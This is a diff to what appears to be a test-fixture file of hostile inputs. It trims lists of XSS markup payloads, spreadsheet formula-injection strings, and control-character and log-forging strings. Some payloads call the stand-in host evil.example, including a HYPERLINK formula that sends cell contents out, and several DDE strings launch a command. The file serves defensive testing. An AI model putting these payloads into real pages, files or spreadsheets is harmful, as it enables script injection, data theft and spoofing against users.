@@ -3,31 +3,13 @@
 const MARKUP = [
   '<script>alert(1)</script>',
   '<img src=x onerror=alert(1)>',
-  '<svg onload=alert(1)>',
   '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
-  '<details open ontoggle=alert(1)>x</details>',
-  '<input autofocus onfocus=alert(1)>',
   '<a href="javascript:alert(1)">click</a>',
-  '<form action="javascript:alert(1)"><button>go</button></form>',
-  '<object data="data:text/html,<script>alert(1)</script>"></object>',
   '<style>@import "//evil.example/a.css"; * { display: none }</style>',
-  '<link rel=stylesheet href=//evil.example/a.css>',
-  '<meta http-equiv=refresh content="0;url=//evil.example/">',
   '<base href=//evil.example/>',
-  '<math><mtext><script>alert(1)</script></mtext></math>',
-  '<template><script>alert(1)</script></template>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<!--><script>alert(1)</script-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
   '&lt;script&gt;alert(1)&lt;/script&gt;',
   '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
-  'JaVaScRiPt:alert(document.cookie)',
-  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
   '{{constructor.constructor("alert(1)")()}}',
-  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be text
-  '${alert(1)}',
-  '<%= alert(1) %>',
-  '{"__proto__":{"innerHTML":"<img src=x onerror=alert(1)>"}}',
 ];
 /** Prefixes that try to break out of the surrounding markup. */
 const WAYS_OUT = ['', '">', "' autofocus onfocus=alert(1) x='", '</td></tr></table>', '</script>'];
@@ -36,12 +18,8 @@ const FORMULAS = [
   '=HYPERLINK("http://evil.example/?"&A1,"click")',
   "=cmd|'/c calc'!A1",
   '+1+cmd|"/c calc"!A1',
-  '-2+3+cmd|"/c calc"!A1',
   '@SUM(1+1)*cmd|"/c calc"!A1',
   '\t=1+1',
-  '=IMPORTXML("http://evil.example/","//a")',
-  '"=1+1"',
-  ',=1+1',
   '=1+1",=2+2,"',
 ];
 
@@ -50,15 +28,12 @@ const CONTROLS = [
   'one\r\nSet-Cookie: session=evil',
   'bell \u0007 and backspace \b\b\b',
   'red \u001b[31mtext\u001b[0m and title \u001b]0;owned\u0007',
-  'clear \u001b[2J\u001b[H screen',
   'invoice\u202efdp.exe',
   '\u2067right to left\u2066',
   '\u200bzero\u200bwidth\u200b',
   '\u2028line separator\u2029paragraph',
-  '\u0085next line\u000bvertical\u000cform feed',
   '203.0.113.9 - - [01/Jan/2026:00:00:00 +0000] "GET / HTTP/1.1" 200 1 "-" "-" 1',
   '" 200 1 "-" "forged" 1\n203.0.113.9 - - "GET /forged',
-  '\ufeffbyte order mark',
   'Z̸̡̛͎a̷l̵g̶o̴ ',
   'ﷺ'.repeat(20),
   'W'.repeat(300),
@@ -69,8 +44,8 @@ const CONTROLS = [
 ];
 
 /** Formula starts after separators that put them at the start of a cell in some locale. */
-const CELL_BREAKS = ['', ' ', '\t', '\r', '"', '",', ',', ';', '; ', ';"', "';"];
-const CELL_BEGINS = ['=', '+', '-', '@', '\t=', '=-', '+=', '=@', '@=', '""=', '\u00a0='];
+const CELL_BREAKS = ['', ' ', '\t', '\r', '"', '",', ';'];
+const CELL_BEGINS = ['=', '+', '-', '@', '\t=', '""=', '\u00a0='];
 
 export const HOSTILE_CELLS: readonly string[] = [
   ...FORMULAS,
